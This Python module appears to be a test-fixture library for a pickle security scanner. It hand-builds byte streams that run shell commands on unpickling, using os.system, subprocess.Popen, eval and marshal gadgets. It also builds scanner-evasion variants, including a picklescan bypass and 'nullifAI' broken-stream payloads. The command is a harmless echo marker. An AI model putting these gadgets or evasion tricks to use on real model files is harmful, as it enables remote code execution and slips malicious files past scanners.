"""Hand-assembled pickle streams for techniques no pickler emits on its own."""

from __future__ import annotations

import pickle
import struct

MARK_CMD = "echo BASTION_POC"


def s(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def stack_global(module: str, name: str) -> bytes:
    return s(module) + s(name) + b"\x93"


def call1(callable_ops: bytes, arg_ops: bytes) -> bytes:
    return callable_ops + arg_ops + b"\x85R"  # TUPLE1 REDUCE


def proto(n: int = 4) -> bytes:
    return b"\x80" + bytes([n])


def system_call(cmd: str = MARK_CMD) -> bytes:
    return (
        proto(2)
        + b"cposix\nsystem\n"
        + b"X"
        + struct.pack("<I", len(cmd))
        + cmd.encode()
        + b"\x85R."
    )


def memoized_stack_global() -> bytes:
    """Module and name strings memoized first, fetched with BINGET later (picklescan bypass)."""
    return (
        proto(4)
        + s("os")
        + b"\x94"
        + s("unused")
        + b"\x94"
        + b"0"
        + s("system")
        + b"\x94"
        + b"0"
        + b"h\x00h\x02\x93"
        + s(MARK_CMD)
        + b"\x85R."
    )


def dup_stack_global() -> bytes:
    """Name built on the stack then duplicated (DUP + MEMOIZE) before STACK_GLOBAL."""
    return proto(4) + s("posix") + s("system") + b"2" + b"0" + b"\x93" + s(MARK_CMD) + b"\x85R."


def python2_names() -> bytes:
    """Protocol 0 with Python 2 module names that fix_imports remaps (__builtin__ -> builtins)."""
    return b"c__builtin__\neval\n(V__import__('os').system('" + MARK_CMD.encode() + b"')\ntR."


def inst_opcode() -> bytes:
    return b"(V" + MARK_CMD.encode() + b"\nios\nsystem\n."


def obj_opcode() -> bytes:
    return proto(1) + b"(cos\nsystem\nV" + MARK_CMD.encode() + b"\no."


def newobj_ex() -> bytes:
    """NEWOBJ_EX of subprocess.Popen (args list + kwargs)."""
    return (
        proto(4)
        + stack_global("subprocess", "Popen")
        + b"]"
        + s("echo")
        + b"a"
        + b"\x85"
        + b"}"
        + s("shell")
        + b"\x89s"
        + b"\x92."
    )


def getattr_chain() -> bytes:
    """getattr(__import__('os'), 'system')('echo ...') — resolvers and import machinery."""
    imp = call1(stack_global("builtins", "__import__"), s("os"))
    attr = stack_global("builtins", "getattr") + imp + s("system") + b"\x86R"
    return proto(4) + attr + s(MARK_CMD) + b"\x85R."


def dotted_name() -> bytes:
    """Protocol 4 dotted name reaching os.system through another module."""
    return proto(4) + stack_global("posixpath", "os.system") + s(MARK_CMD) + b"\x85R."


def broken_after_payload() -> bytes:
    """nullifAI: the payload runs, then an invalid opcode stops the unpickler (and scanners)."""
    return system_call()[:-1] + b"\xff\xfe garbage that is not pickle"


def truncated_after_payload() -> bytes:
    return system_call()[:-1]


def exception_oriented() -> bytes:
    """The payload runs, then the stream raises on purpose (a call with wrong arity)."""
    payload = system_call()[2:-1]
    return proto(2) + payload + b"0" + b"cbuiltins\nlen\n)R."


def ext_code() -> bytes:
    """EXT1 reference: only resolvable where copyreg has the code registered."""
    return (
        proto(2)
        + b"\x82\x07"
        + b"X"
        + struct.pack("<I", len(MARK_CMD))
        + MARK_CMD.encode()
        + b"\x85R."
    )


def stacked(first: bytes, second: bytes) -> bytes:
    return first + second


def nested_loads(inner: bytes, via: str = "raw") -> bytes:
    """pickle.loads(<inner>) with the inner pickle as bytes, base64 text or latin-1 text."""
    import base64

    if via == "base64":
        text = base64.b64encode(inner).decode()
        arg = call1(
            stack_global("base64", "b64decode"),
            s(text) if len(text) < 256 else b"X" + struct.pack("<I", len(text)) + text.encode(),
        )
    elif via == "latin1":
        text = inner.decode("latin-1").encode("utf-8")
        arg = (
            stack_global("_codecs", "encode")
            + b"X"
            + struct.pack("<I", len(text))
            + text
            + s("latin1")
            + b"\x86R"
        )
    else:
        arg = (
            b"C" + bytes([len(inner)]) + inner
            if len(inner) < 256
            else b"B" + struct.pack("<I", len(inner)) + inner
        )
    return proto(4) + stack_global("pickle", "loads") + arg + b"\x85R."


def marshal_function() -> bytes:
    """types.FunctionType(marshal.loads(code), {})() — code objects built at load time."""
    import marshal

    code = marshal.dumps(compile(f"__import__('os').system('{MARK_CMD}')", "<x>", "exec"))
    loads = (
        stack_global("marshal", "loads") + b"C" + bytes([len(code)]) + code + b"\x85R"
        if len(code) < 256
        else stack_global("marshal", "loads")
        + b"B"
        + struct.pack("<I", len(code))
        + code
        + b"\x85R"
    )
    func = stack_global("types", "FunctionType") + loads + b"}" + b"\x86R"
    return proto(4) + func + b")R."


def gadget(module: str, name: str, arg: str) -> bytes:
    return proto(4) + stack_global(module, name) + s(arg) + b"\x85R."


__all__ = ["MARK_CMD", "pickle"]
